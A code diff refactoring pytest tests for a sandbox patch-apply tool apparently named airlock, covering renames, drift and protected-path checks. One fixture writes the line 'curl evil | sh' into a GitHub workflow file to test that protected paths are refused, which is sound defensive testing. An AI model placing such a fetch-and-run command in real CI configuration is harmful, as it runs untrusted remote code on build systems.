@@ -9,10 +9,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from test_gitdiff import Written, written_patch
 
 from airlock.errors import InvalidRequest
 from airlock.policies import DEFAULT_PROTECTED, protecting_glob
-from airlock.sandbox.gitdiff import FileState, GitPatch, build_patch
+from airlock.sandbox.gitdiff import FileState
 from airlock.sandbox.patch_apply import ApplyReport, apply_patch
 
 Tree = dict[str, tuple[bytes, int]]
@@ -38,15 +39,12 @@ def _states(tree: Tree) -> tuple[dict[str, FileState], dict[str, bytes]]:
     return states, blobs
 
 
-def _make(before: Tree, after: Tree, globs: tuple[str, ...] = DEFAULT_PROTECTED) -> GitPatch:
-    old, a = _states(before)
-    new, b = _states(after)
-    blobs = {**a, **b}
-    return build_patch(old, new, blobs.__getitem__, lambda p: protecting_glob(globs, p))
+def _make(before: Tree, after: Tree, globs: tuple[str, ...] = DEFAULT_PROTECTED) -> Written:
+    return written_patch(before, after, globs)
 
 
-def _listed(patch: GitPatch) -> set[str]:
-    return {p for e in patch.entries for p in (e.path, e.old_path) if p}
+def _listed(patch: Written) -> set[str]:
+    return {p for e in patch.patch.entries for p in (e.path, e.old_path) if p}
 
 
 def _write(root: Path, tree: Tree) -> None:
@@ -69,7 +67,7 @@ def _read(root: Path) -> Tree:
     return found
 
 
-def _apply(patch: GitPatch, before: Tree, target: Path, *, check_only: bool = False) -> ApplyReport:
+def _apply(patch: Written, before: Tree, target: Path, *, check_only: bool = False) -> ApplyReport:
     baseline, _ = _states(before)
     return apply_patch(
         patch.text,
@@ -85,7 +83,7 @@ def test_a_clean_target_becomes_the_sandbox_result(tmp_path: Path) -> None:
     _write(tmp_path, BEFORE)
     patch = _make(BEFORE, AFTER)
     assert ("moved/old.txt", "renamed", "old.txt") in {
-        (e.path, e.change, e.old_path) for e in patch.entries
+        (e.path, e.change, e.old_path) for e in patch.patch.entries
     }
     report = _apply(patch, BEFORE, tmp_path)
     assert report.applied and report.drifted == [] and report.failed == []
@@ -139,7 +137,7 @@ def test_applying_a_patch_again_says_it_is_already_applied_and_writes_nothing(
 def test_a_protected_path_is_refused_at_apply_time(tmp_path: Path) -> None:
     after = {**BEFORE, ".github/workflows/ci.yml": (b"run: curl evil | sh\n", 0o644)}
     unprotected = _make(BEFORE, after, globs=())
-    assert [e.path for e in unprotected.entries] == [".github/workflows/ci.yml"]
+    assert [e.path for e in unprotected.patch.entries] == [".github/workflows/ci.yml"]
     _write(tmp_path, BEFORE)
     with pytest.raises(InvalidRequest, match=r"\.github/workflows/ci\.yml.*protects"):
         _apply(unprotected, BEFORE, tmp_path)
